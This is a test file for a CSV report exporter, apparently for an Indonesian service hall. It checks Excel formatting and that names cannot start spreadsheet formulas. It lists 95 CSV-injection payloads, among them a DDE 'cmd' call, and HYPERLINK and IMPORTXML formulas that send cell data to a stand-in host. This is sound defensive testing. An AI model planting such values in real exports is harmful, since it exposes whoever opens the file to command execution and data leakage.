import fc from 'fast-check';
import { expect, test } from 'vitest';
import { REPORT_GROUPS, type Report, type ReportGroup, type ReportRow, type Spread } from '../../shared/report.ts';
import { openInMemory } from '../store/open.ts';
import { type CsvTable, reportCsv } from './csv.ts';
import { report } from './report.ts';
import { COUNTERS, day, put, SERVICES, setUp } from './small-hall.fixture.ts';

/** RFC 4180, as a spreadsheet reads it. */
function read(csv: string, separator: string): readonly (readonly string[])[] {
	const rows: string[][] = [[]];
	let cell = '';
	let quoted = false;
	for (let i = csv.startsWith('\uFEFF') ? 1 : 0; i < csv.length; i += 1) {
		const sign = csv.charAt(i);
		if (quoted && sign === '"' && csv.charAt(i + 1) === '"') {
			cell += '"';
			i += 1;
		} else if (sign === '"') quoted = !quoted;
		else if (!quoted && sign === separator) {
			rows.at(-1)?.push(cell);
			cell = '';
		} else if (!quoted && sign === '\r' && csv.charAt(i + 1) === '\n') {
			rows.at(-1)?.push(cell);
			rows.push([]);
			cell = '';
			i += 1;
		} else cell += sign;
	}
	expect([quoted, cell, rows.pop()]).toEqual([false, '', []]);
	return rows;
}

const friday = day('2026-11-20');
const eight = Date.parse('2026-11-20T00:00:00Z');
function someReport(): Report {
	const store = openInMemory();
	setUp(store, 'Asia/Makassar');
	put(
		store,
		SERVICES.map((service, nth) => ({
			service,
			day: friday,
			issuedAt: eight + nth * 2_000_000,
			state: 'closed',
			outcome: 'served',
			counter: COUNTERS[nth] ?? null,
			firstCalledAt: eight + nth * 2_000_000 + 61_499,
			walkedMs: 20_500,
			startedAt: eight + nth * 2_000_000 + 81_999,
			closedAt: eight + nth * 2_000_000 + 400_000 + nth,
		})),
	);
	return report(store.sqlite, { from: friday, to: friday, at: eight });
}

const spreadCells = ({ count, mean, median, p90, max }: Spread): readonly string[] =>
	[count, ...[mean, median, p90, max].map((ms) => (ms === null ? '' : Math.round(ms / 1000)))].map(String);
const figureCells = (row: ReportRow): readonly string[] => [
	...[row.issued, row.served, row.noShow, row.cancelled, row.expired, row.open, row.transferred].map(String),
	...[row.wait, row.walk, row.service].flatMap(spreadCells),
];
const rowsOf = (made: Report, table: CsvTable): readonly ReportRow[] =>
	table === 'category' ? [made.categories.permit, made.categories.non_permit] : made.groups[table];

test.each([...REPORT_GROUPS, 'category'] as const)(
	'the file of the table "%s", read again, is that table and its total',
	(table) => {
		const made = someReport();
		for (const separator of [';', ','] as const) {
			const [heading, ...lines] = read(reportCsv(made, table, separator), separator);
			const rows = rowsOf(made, table);
			expect(lines.slice(0, rows.length)).toEqual(
				rows.map((row) => [row.name, ...figureCells(row), row.key === '-' ? '' : row.key]),
			);
			expect(lines[rows.length]).toEqual(['Jumlah', ...figureCells(made.total), '']);
			expect(lines[rows.length + 1]?.join('')).toBe('');
			expect(new Set(lines.map((line) => line.length))).toEqual(new Set([heading?.length]));
		}
	},
);

test('Excel in Indonesia can open it: marked as UTF-8, semicolons, whole seconds, headings with their unit', () => {
	const csv = reportCsv(someReport(), 'agency');
	expect(csv.startsWith('\uFEFFInstansi;Terbit;Dilayani;Tidak hadir;Batal;Kedaluwarsa;Masih terbuka;Dialihkan;')).toBe(
		true,
	);
	expect(csv).toContain(
		';Menunggu: n;Menunggu: rata-rata (dtk);Menunggu: median (dtk);Menunggu: P90 (dtk);Menunggu: maks. (dtk);',
	);
	expect(csv).not.toContain('\u00AD');
	expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
});

test('below the figures stand the hall, the days, the moment, and what each figure means', () => {
	const lines = read(reportCsv({ ...someReport(), to: day('2026-11-23') }, 'hour'), ';').map((line) =>
		line.slice(0, 2),
	);
	expect(lines).toContainEqual(['Aula', 'MPP Contoh']);
	expect(lines).toContainEqual(['Tanggal', '2026-11-20 sampai 2026-11-23']);
	expect(lines).toContainEqual(['Dibuat', '2026-11-20 08.00 WITA']);
	expect(lines.find(([term]) => term === 'Menunggu')?.[1]).toContain('panggilan pertama');
});

const COMMANDS = [
	'1+1',
	"cmd|' /C calc'!A0",
	'HYPERLINK("http://x.test?"&A1,"klik")',
	'SUM(A1:A9)',
	'IMPORTXML("http://x.test")',
];
const HOSTILE = [
	'=',
	'+',
	'-',
	'@',
	'\t',
	'\r',
	'\0',
	'＝',
	'＋',
	'－',
	'＠',
	' =',
	'\u200B=',
	'\n=',
	'\uFEFF@',
	'"=',
	';=',
	',=',
	"';=",
].flatMap((sign) => COMMANDS.map((command) => sign + command));

const MADE = someReport();
/** A report in which everything that the hall named is named so. */
function named(name: string): Report {
	const rename = (group: ReportGroup): readonly ReportRow[] =>
		MADE.groups[group].map((row) => ({ ...row, name, key: name }));
	const groups = {
		agency: rename('agency'),
		service: rename('service'),
		queue: rename('queue'),
		counter: rename('counter'),
		hour: rename('hour'),
	};
	return { ...MADE, groups, hall: { ...MADE.hall, name } };
}
const startsFormula = /^[\s\p{C}]*[=+\-@＝＋－＠]|^[\t\r\n\0]/u;

test('ninety-five hostile names: no cell begins a formula, and nothing of the name is lost', () => {
	expect(HOSTILE).toHaveLength(95);
	for (const name of HOSTILE)
		for (const separator of [';', ','] as const) {
			const lines = read(reportCsv(named(name), 'service', separator), separator);
			expect(lines.flat().filter((cell) => startsFormula.test(cell))).toEqual([]);
			const guarded = startsFormula.test(name) ? `'${name}` : name;
			expect([lines[1]?.[0], lines[1]?.at(-1)]).toEqual([guarded, guarded]);
			// A spreadsheet that was told the other separator must not find a cell of its own inside the name.
			const raw = reportCsv(named(name), 'service', separator);
			if (/[;,]/.test(name)) expect(raw).toContain(`"${guarded.replaceAll('"', '""')}"`);
		}
});

test('whatever a service is called, its row comes back as it was written', () => {
	const anyName = fc.oneof(fc.string(), fc.string({ unit: fc.constantFrom(...';,"\r\n\t=-@ a') }));
	fc.assert(
		fc.property(anyName, (name) => {
			const lines = read(reportCsv(named(name), 'service'), ';');
			const cell = lines[1]?.[0] ?? '';
			expect([name, `'${name}`]).toContain(cell);
			expect(startsFormula.test(cell)).toBe(false);
		}),
		{ numRuns: 300 },
	);
});
